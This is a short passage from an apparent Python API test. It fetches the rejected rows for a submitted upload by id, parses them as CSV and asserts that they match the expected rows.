        back = pool.request("GET", f"{url}/{answer.json()['id']}/rejected", headers=headers)
    given_back: list[Cells] = read_csv(back.data.decode())
    assert [{name: row[name] for name in COLUMNS} for row in given_back] == rows
